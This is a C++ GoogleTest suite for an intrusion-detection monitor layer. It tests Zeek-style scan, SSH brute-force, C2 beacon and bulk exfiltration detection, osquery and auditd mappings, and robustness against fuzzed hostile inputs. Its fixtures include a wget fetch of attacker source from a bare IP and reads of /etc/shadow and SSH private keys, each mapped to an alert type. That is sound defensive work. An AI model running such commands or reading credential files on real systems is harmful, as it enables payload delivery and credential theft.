// Monitor layer: Zeek-style windowed detections, osquery symbolization,
// auditd mapping, and the per-host tamper model.

#include <gtest/gtest.h>

#include <cmath>
#include <cstdint>
#include <initializer_list>
#include <limits>
#include <map>
#include <ostream>
#include <set>
#include <string>
#include <string_view>
#include <vector>

#include "alerts/sanitizer.hpp"
#include "alerts/taxonomy.hpp"
#include "monitors/osquery_monitor.hpp"
#include "monitors/zeek_monitor.hpp"
#include "symbolizer_cases.hpp"
#include "util/rng.hpp"
#include "util/stats.hpp"

namespace at::monitors {
namespace {

net::Flow flow_at(util::SimTime ts, net::Ipv4 src, net::Ipv4 dst, std::uint16_t port,
                  net::ConnState state = net::ConnState::kAttempt) {
  net::Flow flow;
  flow.ts = ts;
  flow.src = src;
  flow.dst = dst;
  flow.dst_port = port;
  flow.state = state;
  return flow;
}

const net::Ipv4 kScanner(9, 9, 9, 9);
const net::Ipv4 kInternal(141, 142, 0, 50);

TEST(ZeekMonitorTest, AddressScanFiresAtThreshold) {
  alerts::BufferSink sink;
  ZeekConfig config;
  config.address_scan_threshold = 10;
  ZeekMonitor zeek(sink, config);
  for (std::uint32_t i = 0; i < 10; ++i) {
    zeek.on_flow(flow_at(100 + i, kScanner, net::Ipv4(141, 142, 1, i), 22));
  }
  ASSERT_EQ(sink.alerts().size(), 1u);
  EXPECT_EQ(sink.alerts()[0].type, alerts::AlertType::kAddressScan);
  ASSERT_NE(sink.alerts()[0].find_meta("distinct-hosts"), nullptr);
  EXPECT_EQ(*sink.alerts()[0].find_meta("distinct-hosts"), "10");
  // Only reported once per window.
  zeek.on_flow(flow_at(111, kScanner, net::Ipv4(141, 142, 1, 200), 22));
  EXPECT_EQ(sink.alerts().size(), 1u);
}

TEST(ZeekMonitorTest, PortScanFiresOnManyPorts) {
  alerts::BufferSink sink;
  ZeekConfig config;
  config.port_scan_threshold = 5;
  ZeekMonitor zeek(sink, config);
  for (std::uint16_t p = 1; p <= 5; ++p) {
    zeek.on_flow(flow_at(100 + p, kScanner, kInternal, p));
  }
  ASSERT_EQ(sink.alerts().size(), 1u);
  EXPECT_EQ(sink.alerts()[0].type, alerts::AlertType::kPortScan);
}

TEST(ZeekMonitorTest, WindowResetsCounters) {
  alerts::BufferSink sink;
  ZeekConfig config;
  config.address_scan_threshold = 10;
  config.window = 100;
  ZeekMonitor zeek(sink, config);
  // 6 targets, long pause, 6 more: never 10 within one window.
  for (std::uint32_t i = 0; i < 6; ++i) {
    zeek.on_flow(flow_at(i, kScanner, net::Ipv4(141, 142, 1, i), 22));
  }
  for (std::uint32_t i = 0; i < 6; ++i) {
    zeek.on_flow(flow_at(1000 + i, kScanner, net::Ipv4(141, 142, 2, i), 22));
  }
  EXPECT_TRUE(sink.alerts().empty());
}

TEST(ZeekMonitorTest, SshBruteforce) {
  alerts::BufferSink sink;
  ZeekConfig config;
  config.bruteforce_threshold = 5;
  ZeekMonitor zeek(sink, config);
  for (int i = 0; i < 5; ++i) {
    zeek.on_flow(flow_at(10 + i, kScanner, kInternal, net::ports::kSsh,
                         net::ConnState::kRejected));
  }
  bool saw = false;
  for (const auto& alert : sink.alerts()) {
    saw |= alert.type == alerts::AlertType::kSshBruteforce;
  }
  EXPECT_TRUE(saw);
}

TEST(ZeekMonitorTest, DbProbeAndHostNames) {
  alerts::BufferSink sink;
  ZeekMonitor zeek(sink);
  zeek.set_host_name(kInternal, "pg-0");
  zeek.on_flow(flow_at(5, kScanner, kInternal, net::ports::kPostgres));
  ASSERT_EQ(sink.alerts().size(), 1u);
  EXPECT_EQ(sink.alerts()[0].type, alerts::AlertType::kDbPortProbe);
  EXPECT_EQ(sink.alerts()[0].host, "pg-0");
  ASSERT_TRUE(sink.alerts()[0].src.has_value());
  EXPECT_EQ(*sink.alerts()[0].src, kScanner);
}

TEST(ZeekMonitorTest, BulkExfilOutbound) {
  alerts::BufferSink sink;
  ZeekConfig config;
  config.exfil_bytes_threshold = 1000;
  ZeekMonitor zeek(sink, config);
  auto flow = flow_at(5, kInternal, kScanner, 443, net::ConnState::kEstablished);
  flow.bytes_out = 5000;
  zeek.on_flow(flow);
  ASSERT_EQ(sink.alerts().size(), 1u);
  EXPECT_EQ(sink.alerts()[0].type, alerts::AlertType::kDataExfiltrationBulk);
}

TEST(ZeekMonitorTest, BeaconDetection) {
  alerts::BufferSink sink;
  ZeekMonitor zeek(sink);
  // Perfectly periodic outbound connections -> C2 beacon notice.
  for (int i = 0; i < 5; ++i) {
    zeek.on_flow(flow_at(1000 + i * 300, kInternal, kScanner, 443,
                         net::ConnState::kEstablished));
  }
  bool saw = false;
  for (const auto& alert : sink.alerts()) {
    if (alert.type == alerts::AlertType::kC2Communication) {
      saw = true;
      EXPECT_NE(alert.find_meta("beacon-period-s"), nullptr);
    }
  }
  EXPECT_TRUE(saw);
}

TEST(ZeekMonitorTest, JitteryTrafficIsNotABeacon) {
  alerts::BufferSink sink;
  ZeekMonitor zeek(sink);
  const util::SimTime gaps[] = {10, 900, 50, 2000, 5, 700};
  util::SimTime t = 1000;
  for (const auto gap : gaps) {
    t += gap;
    zeek.on_flow(flow_at(t, kInternal, kScanner, 443, net::ConnState::kEstablished));
  }
  for (const auto& alert : sink.alerts()) {
    EXPECT_NE(alert.type, alerts::AlertType::kC2Communication);
  }
}

// The ZeekMonitor rules written the naive way: distinct sets are std::sets
// that keep growing after their notice fires, and beacon statistics are
// recomputed from the full arrival history on every outbound flow. The
// monitor's bounded state must emit exactly this model's alert stream.
class ReferenceZeek {
 public:
  explicit ReferenceZeek(ZeekConfig config) : config_(std::move(config)) {}

  void on_flow(const net::Flow& flow) {
    const bool src_internal = config_.internal.contains(flow.src);
    const bool dst_internal = config_.internal.contains(flow.dst);
    if (dst_internal && !src_internal) inbound(flow);
    if (config_.lateral_movement_policy && src_internal && dst_internal &&
        flow.src != flow.dst && flow.dst_port == net::ports::kSsh &&
        flow.state == net::ConnState::kEstablished) {
      emit(flow.ts, alerts::AlertType::kSshLateralMove, flow.dst, flow.src)
          .add_meta("from", flow.src.str());
    }
    if (src_internal && !dst_internal) outbound(flow);
  }

  std::size_t prune_idle(util::SimTime now) {
    const util::SimTime pair_idle = ZeekMonitor::kPairIdleWindows * config_.window;
    std::size_t dropped = std::erase_if(sources_, [&](const auto& entry) {
      return now - entry.second.last_seen > config_.window;
    });
    dropped += std::erase_if(pairs_, [&](const auto& entry) {
      return now - entry.second.arrivals.back() > pair_idle;
    });
    return dropped;
  }

  [[nodiscard]] const std::vector<alerts::Alert>& alerts() const noexcept { return alerts_; }
  [[nodiscard]] std::size_t tracked_sources() const noexcept { return sources_.size(); }
  [[nodiscard]] std::size_t tracked_pairs() const noexcept { return pairs_.size(); }

 private:
  struct Source {
    std::set<std::uint32_t> destinations;
    std::set<std::uint16_t> ports;
    std::size_t ssh_failures = 0;
    util::SimTime window_start = 0;
    util::SimTime last_seen = 0;
    bool address_scan_reported = false;
    bool port_scan_reported = false;
    bool bruteforce_reported = false;
  };
  struct Pair {
    std::vector<util::SimTime> arrivals;
    bool beacon_reported = false;
  };

  alerts::Alert& emit(util::SimTime ts, alerts::AlertType type, net::Ipv4 host,
                      net::Ipv4 src) {
    alerts::Alert& alert = alerts_.emplace_back();
    alert.ts = ts;
    alert.type = type;
    alert.host = host.str();
    alert.src = src;
    alert.origin = alerts::Origin::kZeek;
    return alert;
  }

  void inbound(const net::Flow& flow) {
    const auto [it, fresh] = sources_.try_emplace(flow.src.value());
    Source& state = it->second;
    if (fresh || flow.ts - state.window_start > config_.window) {
      state = Source{};
      state.window_start = flow.ts;
    }
    state.last_seen = flow.ts;
    state.destinations.insert(flow.dst.value());
    state.ports.insert(flow.dst_port);
    if (!state.address_scan_reported &&
        state.destinations.size() >= config_.address_scan_threshold) {
      state.address_scan_reported = true;
      emit(flow.ts, alerts::AlertType::kAddressScan, flow.dst, flow.src)
          .add_meta("distinct-hosts", std::to_string(state.destinations.size()));
    }
    if (!state.port_scan_reported && state.ports.size() >= config_.port_scan_threshold) {
      state.port_scan_reported = true;
      emit(flow.ts, alerts::AlertType::kPortScan, flow.dst, flow.src)
          .add_meta("distinct-ports", std::to_string(state.ports.size()));
    }
    if (flow.dst_port == net::ports::kSsh && flow.state != net::ConnState::kEstablished &&
        ++state.ssh_failures >= config_.bruteforce_threshold && !state.bruteforce_reported) {
      state.bruteforce_reported = true;
      emit(flow.ts, alerts::AlertType::kSshBruteforce, flow.dst, flow.src)
          .add_meta("failures", std::to_string(state.ssh_failures));
    }
    if (flow.dst_port == net::ports::kPostgres || flow.dst_port == net::ports::kMysql) {
      emit(flow.ts, alerts::AlertType::kDbPortProbe, flow.dst, flow.src)
          .add_meta("port", std::to_string(flow.dst_port));
    }
  }

  void outbound(const net::Flow& flow) {
    if (flow.state == net::ConnState::kEstablished &&
        flow.bytes_out >= config_.exfil_bytes_threshold) {
      emit(flow.ts, alerts::AlertType::kDataExfiltrationBulk, flow.src, flow.dst)
          .add_meta("bytes", std::to_string(flow.bytes_out));
    }
    Pair& pair = pairs_[(std::uint64_t{flow.src.value()} << 32) | flow.dst.value()];
    pair.arrivals.push_back(flow.ts);
    if (pair.beacon_reported || pair.arrivals.size() < ZeekMonitor::kBeaconMinConnections) return;
    util::OnlineStats gaps;
    for (std::size_t i = 1; i < pair.arrivals.size(); ++i) {
      gaps.add(static_cast<double>(pair.arrivals[i] - pair.arrivals[i - 1]));
    }
    if (gaps.mean() <= 0.0 || gaps.stddev() / gaps.mean() > ZeekMonitor::kBeaconJitterTolerance) {
      return;
    }
    pair.beacon_reported = true;
    alerts::Alert& alert = emit(flow.ts, alerts::AlertType::kC2Communication, flow.src, flow.dst);
    alert.add_meta("beacon-period-s", std::to_string(std::llround(gaps.mean())));
    alert.add_meta("connections", std::to_string(pair.arrivals.size()));
  }

  ZeekConfig config_;
  std::map<std::uint32_t, Source> sources_;
  std::map<std::uint64_t, Pair> pairs_;
  std::vector<alerts::Alert> alerts_;
};

// Seeded mix of scan sweeps, SSH guessing, beacons, exfil and lateral
// sessions from 50 external sources, with long pauses so windows roll and
// idle state is pruned.
std::vector<net::Flow> mixed_traffic(std::uint64_t seed) {
  util::Rng rng(seed);
  const auto pick = [&rng](std::int64_t lo, std::int64_t hi) { return rng.uniform_int(lo, hi); };
  const auto internal_host = [&pick] {
    return net::Ipv4(141, 142, static_cast<std::uint8_t>(pick(0, 3)),
                     static_cast<std::uint8_t>(pick(0, 63)));
  };
  const auto any_state = [&pick] { return static_cast<net::ConnState>(pick(0, 2)); };
  const std::uint16_t service_ports[] = {net::ports::kSsh,  net::ports::kTelnet,
                                         net::ports::kHttp, net::ports::kHttps,
                                         net::ports::kMysql, net::ports::kRdp,
                                         net::ports::kPostgres};
  std::vector<net::Flow> flows;
  util::SimTime now = 0;
  for (int round = 0; round < 400; ++round) {
    now += rng.bernoulli(0.05) ? pick(10 * util::kMinute, 60 * util::kMinute) : pick(0, 90);
    const net::Ipv4 external(198, 51, 100, static_cast<std::uint8_t>(pick(1, 50)));
    const auto burst = pick(1, 60);
    switch (pick(0, 4)) {
      case 0: {  // address sweep on one port, or on a few dozen
        const bool multi_port = rng.bernoulli(0.5);
        const auto fixed_port = service_ports[pick(0, 6)];
        for (std::int64_t i = 0; i < burst; ++i) {
          const auto port = multi_port ? static_cast<std::uint16_t>(pick(1, 40)) : fixed_port;
          flows.push_back(flow_at(now += pick(0, 2), external, internal_host(), port, any_state()));
        }
        break;
      }
      case 1: {  // port sweep of one host
        const net::Ipv4 target = internal_host();
        for (std::int64_t i = 0; i < burst * 4; ++i) {
          const auto port = static_cast<std::uint16_t>(pick(1, 400));
          flows.push_back(flow_at(now += pick(0, 1), external, target, port, any_state()));
        }
        break;
      }
      case 2:  // SSH guessing across a few hosts
        for (std::int64_t i = 0; i < burst; ++i) {
          flows.push_back(
              flow_at(now += pick(0, 3), external, internal_host(), net::ports::kSsh, any_state()));
        }
        break;
      case 3: {  // beacon, clean or jittered
        const net::Ipv4 implant = internal_host();
        const auto period = pick(5, 120);
        const auto jitter = rng.bernoulli(0.5) ? 0 : period;
        for (std::int64_t i = 0, n = pick(3, 8); i < n; ++i) {
          now += period + pick(0, jitter);
          flows.push_back(flow_at(now, implant, external, net::ports::kHttps,
                                  net::ConnState::kEstablished));
        }
        break;
      }
      default:  // scattered inbound, outbound (some bulk) and lateral flows
        for (std::int64_t i = 0; i < burst; ++i) {
          now += pick(0, 5);
          const auto port = service_ports[pick(0, 6)];
          switch (pick(0, 2)) {
            case 0:
              flows.push_back(flow_at(now, external, internal_host(), port, any_state()));
              break;
            case 1: {
              auto flow = flow_at(now, internal_host(), external, port, any_state());
              flow.bytes_out = rng.bernoulli(0.1) ? (1ULL << 30) : 4096;
              flows.push_back(flow);
              break;
            }
            default:
              flows.push_back(flow_at(now, internal_host(), internal_host(), net::ports::kSsh,
                                      any_state()));
          }
        }
    }
  }
  return flows;
}

void expect_same_stream(const std::vector<alerts::Alert>& got,
                        const std::vector<alerts::Alert>& want) {
  ASSERT_EQ(got.size(), want.size());
  for (std::size_t i = 0; i < got.size(); ++i) {
    SCOPED_TRACE("alert " + std::to_string(i));
    EXPECT_EQ(got[i].ts, want[i].ts);
    EXPECT_EQ(got[i].type, want[i].type);
    EXPECT_EQ(got[i].host, want[i].host);
    EXPECT_EQ(got[i].user, want[i].user);
    EXPECT_EQ(got[i].src, want[i].src);
    EXPECT_EQ(got[i].origin, want[i].origin);
    EXPECT_EQ(got[i].metadata, want[i].metadata);
  }
}

TEST(ZeekMonitorTest, FlatScanStateMatchesReference) {
  struct Thresholds {
    std::size_t address;
    std::size_t port;
    std::size_t bruteforce;
  };
  const Thresholds cases[] = {{1, 1, 1}, {25, 15, 20}, {1000, 200, 20}};
  for (const std::uint64_t seed : {11u, 12u}) {
    const auto flows = mixed_traffic(seed);
    for (const auto& thresholds : cases) {
      SCOPED_TRACE("seed " + std::to_string(seed) + " address threshold " +
                   std::to_string(thresholds.address));
      ZeekConfig config;
      config.address_scan_threshold = thresholds.address;
      config.port_scan_threshold = thresholds.port;
      config.bruteforce_threshold = thresholds.bruteforce;
      config.lateral_movement_policy = true;
      alerts::BufferSink sink;
      ZeekMonitor zeek(sink, config);
      ReferenceZeek reference(config);
      for (std::size_t i = 0; i < flows.size(); ++i) {
        zeek.on_flow(flows[i]);
        reference.on_flow(flows[i]);
        if (i % 97 == 96) {
          ASSERT_EQ(zeek.prune_idle(flows[i].ts), reference.prune_idle(flows[i].ts));
          ASSERT_EQ(zeek.tracked_sources(), reference.tracked_sources());
          ASSERT_EQ(zeek.tracked_pairs(), reference.tracked_pairs());
        }
      }
      expect_same_stream(sink.alerts(), reference.alerts());

      // The traffic reaches every rule the bounded state touches.
      std::map<alerts::AlertType, std::size_t> by_type;
      for (const auto& alert : reference.alerts()) ++by_type[alert.type];
      EXPECT_GT(by_type[alerts::AlertType::kC2Communication], 0u);
      EXPECT_GT(by_type[alerts::AlertType::kSshBruteforce], 0u);
      if (thresholds.address <= 25) {
        EXPECT_GT(by_type[alerts::AlertType::kAddressScan], 0u);
        EXPECT_GT(by_type[alerts::AlertType::kPortScan], 0u);
      }
    }
  }
}

// Attacker-chosen flow fields straight into the AT_UNTRUSTED boundary:
// arbitrary addresses and ports, out-of-vocabulary states, a clock that
// jumps backwards and below zero, saturated byte counters, and pruning at
// arbitrary times in between. Run under ASan/UBSan in CI.
TEST(ZeekMonitorTest, HostileFlowsAreSafe) {
  alerts::BufferSink sink;
  ZeekConfig config;
  config.lateral_movement_policy = true;
  ZeekMonitor zeek(sink, config);
  util::Rng rng(0xbadf10);
  constexpr std::int64_t kClockSpan = std::int64_t{1} << 40;
  const std::uint16_t edge_ports[] = {0, net::ports::kSsh, net::ports::kMysql,
                                      net::ports::kPostgres, 65535};
  const auto address = [&rng] {
    return rng.bernoulli(0.5)
               ? net::Ipv4(141, 142, static_cast<std::uint8_t>(rng()),
                           static_cast<std::uint8_t>(rng()))
               : net::Ipv4(static_cast<std::uint32_t>(rng()));
  };
  const auto counter = [&rng] {
    return rng.bernoulli(0.1) ? std::numeric_limits<std::uint64_t>::max() : rng();
  };
  constexpr std::uint64_t kFlows = 20000;
  util::SimTime ts = 0;
  for (std::uint64_t i = 0; i < kFlows; ++i) {
    ts = rng.bernoulli(0.05) ? rng.uniform_int(-kClockSpan, kClockSpan)
                             : ts + rng.uniform_int(-10, 30);
    net::Flow flow;
    flow.ts = ts;
    flow.src = address();
    flow.dst = address();
    flow.src_port = static_cast<std::uint16_t>(rng());
    flow.dst_port = rng.bernoulli(0.3) ? edge_ports[rng.uniform_int(0, 4)]
                                       : static_cast<std::uint16_t>(rng());
    flow.proto = static_cast<net::Proto>(rng.uniform_int(0, 2));
    // 3 lies outside the collapsed conn_state vocabulary.
    flow.state = static_cast<net::ConnState>(rng.uniform_int(0, 3));
    flow.bytes_out = counter();
    flow.bytes_in = counter();
    zeek.on_flow(flow);
    if (rng.bernoulli(0.01)) {
      (void)zeek.prune_idle(rng.bernoulli(0.5) ? ts : rng.uniform_int(-kClockSpan, kClockSpan));
    }
  }
  EXPECT_EQ(zeek.flows_seen(), kFlows);
  for (const auto& alert : sink.alerts()) EXPECT_FALSE(alert.host.empty());
}

TEST(MonitorTamper, SilencesOnlyThatHost) {
  alerts::BufferSink sink;
  OsqueryMonitor monitor(sink);
  monitor.tamper("pg-0");
  ProcessEvent event;
  event.ts = 1;
  event.host = "pg-0";
  event.user = "postgres";
  event.cmdline = "wget http://1.2.3.4/abs.c";
  monitor.on_process(event);
  EXPECT_TRUE(sink.alerts().empty());
  EXPECT_EQ(monitor.suppressed(), 1u);

  event.host = "pg-1";
  monitor.on_process(event);
  EXPECT_EQ(sink.alerts().size(), 1u);
  monitor.restore("pg-0");
  event.host = "pg-0";
  monitor.on_process(event);
  EXPECT_EQ(sink.alerts().size(), 2u);
}

TEST(OsqueryMonitorTest, SymbolizesCommandLines) {
  alerts::BufferSink sink;
  OsqueryMonitor monitor(sink);
  ProcessEvent event;
  event.ts = 777;
  event.host = "node-1";
  event.user = "alice";
  event.cmdline = "gcc -o mod module.c";
  event.pid = 4242;
  monitor.on_process(event);
  ASSERT_EQ(sink.alerts().size(), 1u);
  const auto& alert = sink.alerts()[0];
  EXPECT_EQ(alert.type, alerts::AlertType::kCompileSource);
  EXPECT_EQ(alert.ts, 777);
  EXPECT_EQ(alert.host, "node-1");
  EXPECT_EQ(alert.origin, alerts::Origin::kOsquery);
  EXPECT_TRUE(alert.user.starts_with("user-"));  // sanitized
  ASSERT_NE(alert.find_meta("pid"), nullptr);
}

TEST(OsqueryMonitorTest, CountsUnmapped) {
  alerts::BufferSink sink;
  OsqueryMonitor monitor(sink);
  ProcessEvent event;
  event.cmdline = "ls -la";
  monitor.on_process(event);
  EXPECT_EQ(monitor.unmapped(), 1u);
  EXPECT_TRUE(sink.alerts().empty());
}

// Attacker-typed host events straight into the two host monitors'
// AT_UNTRUSTED boundaries: the SymbolizerPatterns command lines with
// seeded byte flips, splices and truncations, NUL and 0xff bytes, and
// 100K-byte fields in every string an event carries. Run under ASan/UBSan
// in CI.
class HostileHostEvents : public ::testing::Test {
 protected:
  /// A seed line, or a mutation of one: one to three random edits.
  std::string field(std::initializer_list<std::string_view> extra_seeds = {}) {
    std::vector<std::string_view> seeds;
    for (const auto& c : alerts::kSymbolCases) seeds.emplace_back(c.line);
    seeds.insert(seeds.end(), extra_seeds);
    const auto pick = [&] {
      return seeds[static_cast<std::size_t>(
          rng_.uniform_int(0, static_cast<std::int64_t>(seeds.size()) - 1))];
    };
    std::string out(pick());
    const auto at = [&] {
      return static_cast<std::size_t>(rng_.uniform_int(0, static_cast<std::int64_t>(out.size())));
    };
    const std::int64_t edits = rng_.uniform_int(0, 3);
    for (std::int64_t e = 0; e < edits; ++e) {
      switch (rng_.uniform_int(0, 6)) {
        case 0:  // bit flip
          if (!out.empty()) {
            out[at() % out.size()] ^= static_cast<char>(1u << rng_.uniform_int(0, 7));
          }
          break;
        case 1: {  // splice a piece of another seed in
          const std::string_view other = pick();
          const auto from = static_cast<std::size_t>(
              rng_.uniform_int(0, static_cast<std::int64_t>(other.size())));
          out.insert(at(), other.substr(from));
          break;
        }
        case 2:  // truncate
          out.resize(at());
          break;
        case 3:
          out.insert(at(), 1, '\0');
          break;
        case 4:
          out.insert(at(), 1, '\xff');
          break;
        case 5:  // 100K-byte field: the line so far repeated, or one byte
          if (rng_.bernoulli(0.05)) {
            const std::string unit = rng_.bernoulli(0.5) ? out + " " : std::string(1, 'a');
            std::string big;
            while (big.size() < kHuge) big += unit;
            big.resize(kHuge);
            out = std::move(big);
          }
          break;
        default:  // random bytes
          for (std::int64_t n = rng_.uniform_int(1, 8); n > 0; --n) {
            out.insert(at(), 1, static_cast<char>(rng_()));
          }
          break;
      }
    }
    return out;
  }

  static constexpr std::size_t kHuge = 100'000;
  util::Rng rng_{0x5eed0b5};
};

TEST_F(HostileHostEvents, OsqueryCountsEveryEventAndSanitizesEveryCommand) {
  alerts::BufferSink sink;
  OsqueryMonitor monitor(sink);
  monitor.tamper("h");
  const alerts::Sanitizer sanitizer;
  constexpr std::uint64_t kEvents = 3000;
  std::size_t huge = 0;
  for (std::uint64_t i = 0; i < kEvents; ++i) {
    ProcessEvent event;
    event.ts = rng_.uniform_int(-util::kDay, 400 * util::kDay);
    event.host = rng_.bernoulli(0.3) ? "h" : field({"pg-0", "node-1"});
    event.user = field({"postgres", "root"});
    event.cmdline = field();
    event.pid = static_cast<std::uint32_t>(rng_());
    if (event.cmdline.size() >= kHuge) ++huge;
    const std::size_t before = sink.alerts().size();
    monitor.on_process(event);
    if (sink.alerts().size() == before) continue;
    ASSERT_EQ(sink.alerts().size(), before + 1);
    const auto* cmd = sink.alerts().back().find_meta("cmd");
    ASSERT_NE(cmd, nullptr);
    EXPECT_EQ(*cmd, sanitizer.sanitize_line(event.cmdline)) << "event " << i;
  }
  EXPECT_EQ(monitor.events_seen(), kEvents);
  EXPECT_EQ(monitor.emitted(), sink.alerts().size());
  EXPECT_EQ(monitor.emitted() + monitor.unmapped() + monitor.suppressed(), monitor.events_seen());
  // The mix reaches all three outcomes and the oversized path.
  EXPECT_GT(huge, 0u);
  EXPECT_GT(monitor.emitted(), 0u);
  EXPECT_GT(monitor.unmapped(), 0u);
  EXPECT_GT(monitor.suppressed(), 0u);
}

TEST_F(HostileHostEvents, AuditdNeverEmitsMoreThanItSees) {
  alerts::BufferSink sink;
  AuditdMonitor monitor(sink);
  monitor.tamper("h");
  constexpr std::uint64_t kEvents = 3000;
  std::size_t huge = 0;
  for (std::uint64_t i = 0; i < kEvents; ++i) {
    SyscallEvent event;
    event.ts = rng_.uniform_int(-util::kDay, 400 * util::kDay);
    event.host = rng_.bernoulli(0.3) ? "h" : field({"pg-0", "node-1"});
    event.user = field({"postgres", "root"});
    event.kind = static_cast<SyscallKind>(rng_.uniform_int(0, 6));
    event.path = field({"/etc/shadow", "/home/a/.ssh/id_rsa", "/var/log/wtmp", "/tmp/kp"});
    event.detail = field({"4755", "u+s", "1.2.3.4:443"});
    if (event.path.size() >= kHuge) ++huge;
    monitor.on_syscall(event);
  }
  EXPECT_EQ(monitor.events_seen(), kEvents);
  EXPECT_LE(monitor.emitted(), monitor.events_seen());
  EXPECT_EQ(monitor.emitted(), sink.alerts().size());
  EXPECT_GT(huge, 0u);
  EXPECT_GT(monitor.emitted(), 0u);
  EXPECT_GT(monitor.suppressed(), 0u);
}

TEST_F(HostileHostEvents, AuditdIgnoresASyscallKindOutsideTheTaxonomy) {
  alerts::BufferSink sink;
  AuditdMonitor monitor(sink);
  SyscallEvent event;
  event.ts = 1;
  event.host = "h";
  event.kind = static_cast<SyscallKind>(9);
  event.path = "/etc/shadow";
  event.detail = "4755";
  monitor.on_syscall(event);
  EXPECT_EQ(monitor.events_seen(), 1u);
  EXPECT_EQ(monitor.emitted(), 0u);
  EXPECT_TRUE(sink.alerts().empty());
}

struct AuditCase {
  SyscallKind kind;
  const char* path;
  const char* detail;
  std::optional<alerts::AlertType> expected;
};

// Prints syscall and expected symbol: the default printer dumps the case's raw
// bytes, pointers included, and that dump names the test, so the name would
// change from run to run.
void PrintTo(const AuditCase& c, std::ostream* os) {
  *os << to_string(c.kind) << '_' << (c.expected ? alerts::symbol(*c.expected) : "none");
}

class AuditdMapping : public ::testing::TestWithParam<AuditCase> {};

TEST_P(AuditdMapping, MapsSyscalls) {
  alerts::BufferSink sink;
  AuditdMonitor monitor(sink);
  SyscallEvent event;
  event.ts = 1;
  event.host = "h";
  event.kind = GetParam().kind;
  event.path = GetParam().path;
  event.detail = GetParam().detail;
  monitor.on_syscall(event);
  if (GetParam().expected) {
    ASSERT_EQ(sink.alerts().size(), 1u);
    EXPECT_EQ(sink.alerts()[0].type, *GetParam().expected);
  } else {
    EXPECT_TRUE(sink.alerts().empty());
  }
}

INSTANTIATE_TEST_SUITE_P(
    Syscalls, AuditdMapping,
    ::testing::Values(
        AuditCase{SyscallKind::kOpen, "/etc/shadow", "", alerts::AlertType::kCredentialDump},
        AuditCase{SyscallKind::kOpen, "/home/a/.ssh/id_rsa", "",
                  alerts::AlertType::kSshKeyTheft},
        AuditCase{SyscallKind::kOpen, "/home/a/.ssh/known_hosts", "",
                  alerts::AlertType::kKnownHostsEnumeration},
        AuditCase{SyscallKind::kOpen, "/etc/hosts", "", std::nullopt},
        AuditCase{SyscallKind::kUnlink, "/var/log/auth.log", "",
                  alerts::AlertType::kLogTampering},
        AuditCase{SyscallKind::kUnlink, "/tmp/x", "", std::nullopt},
        AuditCase{SyscallKind::kExecve, "/tmp/kp", "", alerts::AlertType::kFileDroppedTmp},
        AuditCase{SyscallKind::kExecve, "/usr/bin/ls", "", std::nullopt},
        AuditCase{SyscallKind::kModuleLoad, "rootkit.ko", "",
                  alerts::AlertType::kInstallKernelModule},
        AuditCase{SyscallKind::kSetuid, "", "", alerts::AlertType::kPrivilegeEscalation},
        AuditCase{SyscallKind::kChmod, "/tmp/x", "4755",
                  alerts::AlertType::kSetuidBinaryCreated},
        AuditCase{SyscallKind::kChmod, "/tmp/x", "0644", std::nullopt},
        AuditCase{SyscallKind::kConnect, "", "1.2.3.4:443", std::nullopt}));

}  // namespace
}  // namespace at::monitors
